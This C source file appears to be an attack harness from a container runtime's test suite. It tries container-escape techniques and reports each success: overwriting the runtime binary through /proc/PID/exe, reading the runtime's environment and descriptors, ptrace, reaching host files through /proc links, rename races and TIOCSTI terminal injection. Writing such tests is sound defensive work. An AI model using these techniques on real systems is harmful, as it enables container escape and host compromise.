/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attack.c - what a hostile container tries; each success is one line on stdout
 *
 *	attack exe SECONDS	get a writable descriptor of the runtime's binary through
 *				/proc/PID/exe, by open, open_tree and mount_setattr
 *	attack spy SECONDS	look into each process of the runtime: descriptors above 2,
 *				the word SECRET in its environment, ptrace
 *	attack reach PATH SECONDS  get at this file of the host through the root, the working
 *				directory and the descriptors above 2 of each new process
 *				(these end when there is a file /tmp/end)
 *	attack exchange A B SECONDS  exchange the names A and B over and over
 *	attack sti		push a character into the terminal of standard input
 *	attack keyring		the number of its session keyring (no attack: a look)
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

enum { TREE_CLONE = 1, EMPTY_PATH = 0x1000, SYS_open_tree_n = 428, SYS_mount_setattr_n = 442 };

static long now_ms(void)
{
	struct timespec t;

	(void)clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

static bool is_over(long until)
{
	return now_ms() >= until || access("/tmp/end", F_OK) == 0;
}

/* Pids are given one after the other, and loadavg ends with the newest of our namespace: what comes
 * is seen in its first microseconds. */
struct pids {
	int first, last;
};

static void pids_next(struct pids *pids)
{
	int fd = open("/proc/loadavg", O_RDONLY | O_CLOEXEC);
	char text[128] = "";
	const char *word;
	int newest = 0;

	if (fd >= 0 && read(fd, text, sizeof text - 1) > 0) {
		word = strrchr(text, ' ');
		newest = word ? (int)strtol(word, NULL, 10) : 0;
	}
	(void)close(fd);
	pids->first = newest > 8 ? newest - 8 : 1;
	pids->last = newest + 2;
}

/* Success is a write that went through. */
static void try_write(const char *how, const char *path)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (write(fd, "owned", 5) == 5)
		(void)printf("wrote by %s\n", how);
	(void)close(fd);
}

static void try_writable_mount(const char *how, int fd)
{
	struct mount_attr attr = { .attr_clr = MOUNT_ATTR_RDONLY };
	char path[64];

	if (syscall(SYS_mount_setattr_n, fd, "", EMPTY_PATH, &attr, sizeof attr) == 0)
		(void)printf("writable by %s\n", how);
	(void)snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
	try_write(how, path);
}

static void attack_fd(int fd)
{
	int tree = (int)syscall(SYS_open_tree_n, fd, "", EMPTY_PATH | TREE_CLONE);

	try_writable_mount("the file", fd);
	if (tree < 0)
		return;
	try_writable_mount("a clone of its mount", tree);
	(void)close(tree);
}

static bool same_file(const struct stat *st, const char *path)
{
	struct stat own;

	return stat(path, &own) == 0 && own.st_dev == st->st_dev && own.st_ino == st->st_ino;
}

/* Neither ourselves nor a program of the image: the runtime, by whatever name. */
static bool exe_is_foreign(const char *path)
{
	struct stat st;

	return stat(path, &st) == 0 && !same_file(&st, "/proc/self/exe") &&
	       !same_file(&st, "/bin/busybox");
}

/* Keeps what it finds for when the process has ended: a running program can't be written. */
static void exe_round(const struct pids *pids, int kept[64], size_t *n)
{
	char path[64];

	for (int pid = pids->first; pid <= pids->last; pid++) {
		int fd;

		(void)snprintf(path, sizeof path, "/proc/%d/exe", pid);
		if (!exe_is_foreign(path) || *n == 64)
			continue;
		fd = open(path, O_PATH | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (*n == 0)
			(void)printf("saw the runtime\n");
		kept[(*n)++] = fd;
		attack_fd(fd);
		try_write("its name", path);
	}
}

static void attack_exe(long until)
{
	int kept[64];
	size_t n = 0;
	struct pids pids;

	while (!is_over(until)) {
		pids_next(&pids);
		exe_round(&pids, kept, &n);
	}
	for (size_t i = 0; i < n; i++)
		attack_fd(kept[i]);
}

static void spy_fds(int pid)
{
	char path[64], target[256];

	for (int fd = 3; fd < 32; fd++) {
		ssize_t len;

		(void)snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		len = readlink(path, target, sizeof target);
		if (len > 0)
			(void)printf("descriptor %d is %.*s\n", fd, (int)len, target);
	}
}

static void spy_environment(int pid)
{
	char path[64], text[16384];
	ssize_t len;
	int fd;

	(void)snprintf(path, sizeof path, "/proc/%d/environ", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	len = read(fd, text, sizeof text);
	if (len > 0 && memmem(text, (size_t)len, "SECRET", 6))
		(void)printf("read the environment\n");
	(void)close(fd);
}

static bool is_runtime(int pid)
{
	char path[64], name[32] = "";
	int fd;

	(void)snprintf(path, sizeof path, "/proc/%d/comm", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	if (read(fd, name, sizeof name - 1) < 0)
		name[0] = '\0';
	(void)close(fd);
	return strncmp(name, "ocirt", 5) == 0;
}

/* Stopped, then looked at: it can't have become the program.  PTRACE_ATTACH would leave its SIGSTOP
 * to a program that is executed meanwhile. */
static void spy_trace(int pid)
{
	if (ptrace(PTRACE_SEIZE, pid, 0, 0) != 0)
		return;
	(void)ptrace(PTRACE_INTERRUPT, pid, 0, 0);
	(void)waitpid(pid, NULL, __WALL);
	if (is_runtime(pid))
		(void)printf("traced\n");
	(void)ptrace(PTRACE_DETACH, pid, 0, 0);
}

static void spy(int pid, const char *unused)
{
	(void)unused;
	spy_fds(pid);
	spy_environment(pid);
	spy_trace(pid);
}

/* Looks at each process of the runtime that can be seen. */
static void attack_runtime(void (*look)(int pid, const char *file), const char *file, long until)
{
	struct pids pids;
	bool seen = false;

	while (!is_over(until)) {
		pids_next(&pids);
		for (int pid = pids.first; pid <= pids.last; pid++) {
			if (pid == getpid() || !is_runtime(pid))
				continue;
			seen = true;
			look(pid, file);
		}
	}
	(void)printf("saw %s\n", seen ? "the runtime" : "nothing");
}

/* From a directory up as far as it goes: is the file there?  A root stops only who has it. */
static bool leads_to(const char *directory, const char *file)
{
	int at = open(directory, O_PATH | O_DIRECTORY | O_CLOEXEC);
	bool found;

	for (int i = 0; i < 32 && at >= 0; i++) {
		int up = openat(at, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);

		(void)close(at);
		at = up;
	}
	found = at >= 0 && faccessat(at, file, F_OK, 0) == 0;
	if (at >= 0)
		(void)close(at);
	return found;
}

/* The runtime's process may hold its socket, and files of our own root; all else is a find. */
static void reach_fd(const char *path, const char *file)
{
	char target[256] = "";
	struct stat st;

	if (readlink(path, target, sizeof target - 1) <= 0 || strncmp(target, "socket:", 7) == 0)
		return;
	if (stat(path, &st) < 0 || same_file(&st, target))
		return;
	(void)printf("descriptor: %s\n", target);
	if (leads_to(path, file))
		(void)printf("reached the host by %s\n", path);
}

static void reach(int pid, const char *file)
{
	static const char *const links[] = { "root", "cwd" };
	char path[64];

	for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
		(void)snprintf(path, sizeof path, "/proc/%d/%s", pid, links[i]);
		if (leads_to(path, file))
			(void)printf("reached the host by %s\n", path);
	}
	for (int fd = 3; fd < 32; fd++) {
		(void)snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
		reach_fd(path, file);
	}
}

static void attack_exchange(const char *a, const char *b, long until)
{
	while (now_ms() < until)
		(void)renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv)
{
	long until = now_ms() + 1000 * (argc > 2 ? strtol(argv[argc - 1], NULL, 10) : 1);

	(void)setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 3 && strcmp(argv[1], "exe") == 0)
		attack_exe(until);
	else if (argc == 3 && strcmp(argv[1], "spy") == 0)
		attack_runtime(spy, NULL, until);
	else if (argc == 4 && strcmp(argv[1], "reach") == 0)
		attack_runtime(reach, argv[2] + strspn(argv[2], "/"), until);
	else if (argc == 5 && strcmp(argv[1], "exchange") == 0)
		attack_exchange(argv[2], argv[3], until);
	else if (argc == 2 && strcmp(argv[1], "sti") == 0)
		(void)printf("%s\n", ioctl(0, TIOCSTI, "x") == 0 ? "pushed" : "refused");
	else if (argc == 2 && strcmp(argv[1], "keyring") == 0)
		(void)printf("%ld\n", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID,
					      KEY_SPEC_SESSION_KEYRING, 0));
	else
		return 2;
	return 0;
}
